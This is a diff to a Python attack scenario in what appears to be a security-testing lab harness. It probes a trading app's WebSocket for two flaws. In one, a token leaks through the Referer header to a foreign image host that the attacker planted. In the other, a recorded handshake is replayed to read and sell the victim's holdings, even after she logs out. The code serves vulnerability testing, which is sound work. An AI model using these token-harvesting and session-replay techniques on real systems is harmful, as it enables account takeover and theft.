@@ -1,16 +1,21 @@
-"""What a proxy, a log or a bug report kept of one handshake is used again, by somebody else."""
+"""A token is read in a Referer; what a bug report kept of one handshake is used again."""
 
 from collections.abc import AsyncIterator
 from contextlib import asynccontextmanager
 from typing import Any
+from urllib.parse import parse_qsl, quote, urlsplit
 
 from lab.harness import Outcome, Refused, Session, Socket, Target
 
+BROWSER = True
 BY_HAND = True
 WHY = (
     "The token is out of the address, has all its claims verified and ends after a minute. Within "
     "the minute it opens as many sockets as one likes, after the logout too."
 )
+LOG_IN = """body => fetch("/auth/login", {
+    method: "POST", headers: {"Content-Type": "application/json"}, body: JSON.stringify(body),
+}).then(answer => answer.status)"""
 TRAIL = frozenset({"authn_token_reuse"})
 
 
@@ -39,27 +44,58 @@ async def legitimate(target: Target) -> None:
 
 
 async def attack(target: Target) -> Outcome:
-    """Repeat the victim's handshake: beside its socket, and again after its logout."""
+    """Read the Referer of a picture; then repeat a handshake, beside its socket and after the logout."""
+    won = []
+    if await read_referer(target):
+        won.append("sees what alice owns with a token from a Referer")
     alice = await target.login("alice")
     async with page(target, alice) as (socket, path, protocols):
         await socket.receive()
         target.note("the handshake of alice is in a recording that she attached to a bug report")
-        taken = await replay(target, path, protocols)
+        if await replay(target, path, protocols):
+            won.append("sells it with the handshake from a recording")
     await target.request("POST", "/auth/logout", session=alice)
     target.note("alice has logged out")
-    again = await replay(target, path, protocols)
-    said = [what for what, won in (("while she works", taken), ("after her logout", again)) if won]
-    if said:
-        return target.outcome(True, f"sees and sells what alice owns, {' and '.join(said)}")
-    return target.outcome(False, "the recorded handshake opens nothing")
+    if await replay(target, path, protocols):
+        won.append("does so after her logout too")
+    return target.outcome(
+        bool(won), ", ".join(won) or "no address tells, no recording opens anything"
+    )
 
 
-async def replay(target: Target, path: str, protocols: list[str]) -> bool:
+async def read_referer(target: Target) -> bool:
+    """Whether a picture on the victim's page tells its owner how to be the victim."""
+    picture = f"{target.hostile.foreign}/advertisement.png"
+    async with page(target, await target.login("mallory")) as (socket, _, _):
+        await socket.receive()
+        assert (await socket.ask({"type": "advertise", "picture": picture}))["type"] == "shown"
+    body = {"username": "alice", "password": target.users["alice"]}
+    async with target.browser() as profile:
+        tab = await profile.new_page()
+        await tab.goto(f"{target.http}/portfolio")
+        assert await tab.evaluate(LOG_IN, body) < 400
+        target.write("alice", ">", "logs in with her browser, and looks at her portfolio")
+        await tab.goto(f"{target.http}/portfolio")
+    assert target.hostile.seen, "the page shows no advertisement"
+    for path, headers in target.hostile.seen:
+        referer = headers.get("Referer", "")
+        target.write("thief", "<", f"GET {path}, Referer: {referer or '(none)'}")
+        for _, value in parse_qsl(urlsplit(referer).query):
+            if await replay(target, f"/ws/portfolio?token={quote(value)}", [], then_sell=False):
+                return True
+    return False
+
+
+async def replay(
+    target: Target, path: str, protocols: list[str], *, then_sell: bool = True
+) -> bool:
     """Whether the thief sees what alice owns, and sells it."""
     try:
         async with target.connect(path, subprotocols=protocols, who="thief") as socket:
-            owned = await socket.receive()
-            sold = await socket.ask({"type": "sell", "what": "GOLD"})
+            if (await socket.receive()).get("owner") != "alice":
+                return False
+            if not then_sell:
+                return True
+            return bool((await socket.ask({"type": "sell", "what": "GOLD"}))["type"] == "sold")
     except Refused:
         return False
-    return bool(owned.get("owner") == "alice" and sold.get("type") == "sold")
